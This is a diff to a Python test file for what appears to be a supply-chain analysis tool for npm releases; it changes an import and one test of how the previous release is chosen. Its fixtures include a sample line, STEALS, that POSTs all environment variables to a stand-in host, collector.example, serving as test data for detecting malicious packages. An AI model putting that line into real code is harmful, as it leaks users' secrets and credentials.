@@ -12,10 +12,10 @@ import pytest
 
 from biopsy import ecosystems
 from biopsy.ecosystems.npm import configuration
+from biopsy.ecosystems.order import earlier
 from biopsy.errors import UsageError
 from biopsy.model.dossier import Analysis
 from biopsy.pipeline import Options, Pair, analyze, compare, show
-from biopsy.pipeline.before import earlier
 
 CALM = "exports.colour = () => process.env.NO_COLOR\n"
 STEALS = CALM + "fetch('https://collector.example/', {method: 'POST', body: JSON.stringify(process.env)})\n"
@@ -116,7 +116,8 @@ def since(analysis: Analysis) -> tuple[str, list[str]]:
 def test_the_release_before_is_the_newest_earlier_one_of_its_sort(
     ecosystem: str, versions: list[str], here: str, chosen: str | None
 ) -> None:
-    assert earlier(versions, here, ecosystems.by_type(ecosystem)) == chosen
+    known = ecosystems.by_type(ecosystem)
+    assert earlier(sorted(versions, key=known.version_key), here, known.prerelease) == chosen
 
 
 def test_a_release_is_compared_with_the_one_before_it_which_is_read_for_that(
